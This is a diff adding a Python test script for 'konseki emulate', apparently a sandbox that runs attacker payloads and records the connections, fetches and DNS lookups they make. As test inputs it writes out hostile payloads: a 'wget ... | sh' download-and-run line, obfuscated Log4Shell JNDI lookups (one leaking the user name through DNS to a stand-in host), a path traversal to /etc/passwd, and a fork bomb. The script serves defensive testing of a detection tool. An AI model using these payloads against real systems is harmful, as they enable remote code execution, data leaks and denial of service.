@@ -1,0 +1,119 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""konseki emulate with the real konseki-emu: its JSON, its traces, its exit codes; as root and as an ordinary user.
+
+usage: emulate.py BUILD SOURCE
+"""
+import json, os, re, subprocess, sys
+
+BUILD, SOURCE = os.path.realpath(sys.argv[1]), os.path.realpath(sys.argv[2])
+CONFIG = os.path.join(SOURCE, 'config', 'konseki.conf')
+failures = []
+
+
+def check(what, holds, shown=''):
+    if not holds:
+        failures.append(what)
+        print(f'FAILED: {what} {shown}')
+
+
+def emulate(code, *options, language='shell', user=None):
+    """(exit code, the JSON object or None, stderr)"""
+    done = subprocess.run([BUILD + '/konseki', 'emulate', '-c', CONFIG, '--language', language, '--json', *options],
+                          input=code if isinstance(code, bytes) else code.encode(), stdout=subprocess.PIPE,
+                          stderr=subprocess.PIPE, timeout=120, user=user, group=user, extra_groups=[] if user else None)
+    try:
+        return done.returncode, json.loads(done.stdout), done.stderr.decode()
+    except ValueError:
+        return done.returncode, None, done.stderr.decode()
+
+
+def validator():
+    try:
+        import jsonschema
+    except ImportError:
+        print('jsonschema is not installed: the JSON is not validated')
+        return lambda answer: None
+    with open(os.path.join(SOURCE, 'tests', 'schema', 'emulate.json')) as file:
+        schema = json.load(file)
+    return lambda answer: jsonschema.validate(answer, schema)
+
+
+def traces(answer, kind):
+    return [t for t in answer['traces'] if t['kind'] == kind]
+
+
+def holds(answer, text):
+    """Some text trace's pattern matches all of text."""
+    return any(re.fullmatch(t['pattern'], text) for t in traces(answer, 'text'))
+
+
+def without_times(answer):
+    for profile in answer['profiles']:
+        profile.pop('ms')
+    return answer
+
+
+def run(validate, user):
+    code, sum_and_name, _ = emulate('id; echo $((191*7)) | rev', user=user)
+    check('it ends with 0', code == 0)
+    validate(sum_and_name)
+    outputs = [p['output'] for p in sum_and_name['profiles']]
+    check('every server runs it', outputs and all(o.endswith('7331\n') and o.startswith('uid=') for o in outputs))
+    first = outputs[0].splitlines()[0]
+    check('a trace holds what id prints', holds(sum_and_name, first))
+    check('the sum is in a trace that must show',
+          any('7331' in t['pattern'] and t['must_show'] for t in traces(sum_and_name, 'text')))
+
+    _, ping, _ = emulate('ping -c1 198.51.100.7', user=user)
+    validate(ping)
+    check('ping leaves an echo', any(t['pattern'] == '198.51.100.7' for t in traces(ping, 'icmp')), ping['traces'])
+
+    _, wget, _ = emulate('wget http://203.0.113.9/x -O- | sh', user=user)
+    validate(wget)
+    check('wget leaves a connection and a fetch',
+          any(t['pattern'] == '203.0.113.9:80' for t in traces(wget, 'connect')) and
+          any(t['pattern'] == 'http://203.0.113.9/x' for t in traces(wget, 'fetch')), wget['traces'])
+
+
+def main():
+    validate = validator()
+    run(validate, None)
+    if os.geteuid() == 0 and subprocess.run(['test', '-x', BUILD + '/konseki'], user=65534, group=65534).returncode == 0:
+        run(validate, 65534)
+
+    _, first, _ = emulate('echo $$ $(date) $RANDOM; cat /etc/passwd')
+    _, second, _ = emulate('echo $$ $(date) $RANDOM; cat /etc/passwd')
+    check('the same code gives the same answer', without_times(first) == without_times(second))
+
+    _, jndi, _ = emulate('${${lower:J}ndi:${env:NOPE:-l}dap://203.0.113.7:1389/${sys:java.version}}', language='jndi')
+    validate(jndi)
+    check('a look-up leaves its connection', [t['pattern'] for t in traces(jndi, 'connect')] == ['203.0.113.7:1389'])
+    _, jndi, _ = emulate('${jndi:dns://x.example/${env:USER}.k7q2x.oast.example}', language='auto')
+    check('a name with a part of the victim is a pattern',
+          any(re.fullmatch(t['pattern'], 'tomcat.k7q2x.oast.example') for t in traces(jndi, 'dns')), jndi['traces'])
+
+    _, path, _ = emulate('../../../../../../etc/passwd', language='path')
+    validate(path)
+    check('a traversal shows the file', traces(path, 'text') and not any(t['must_show'] for t in path['traces']))
+
+    code, nothing, said = emulate("SELECT 1", language='sql-oracle')
+    validate(nothing)
+    check('what nothing here runs is said', code == 1 and nothing['stopped_by'] == 'unsupported' and 'sql-oracle' in said)
+
+    code, endless, _ = emulate('while :; do :; done')
+    validate(endless)
+    check('an endless loop ends', code == 0 and endless['stopped_by'] not in ('exit', 'unsupported'))
+    code, forks, _ = emulate('f() { f | f & }; f; yes > /tmp/x')
+    check('a fork bomb ends', code == 0 and forks['stopped_by'] != 'unsupported')
+
+    check('a wrong language is a usage error', emulate('x', language='klingon')[0] == 2)
+    check('an unknown profile is an error', emulate('x', '--profile', 'nosuch')[0] == 1)
+    check('no language is a usage error',
+          subprocess.run([BUILD + '/konseki', 'emulate'], input=b'', capture_output=True).returncode == 2)
+    check('code that is too long is refused', emulate(b'#' * 70000)[0] == 1)
+    print('konseki emulate:', f'{len(failures)} failures' if failures else 'all as it should be')
+    return 1 if failures else 0
+
+
+sys.exit(main())
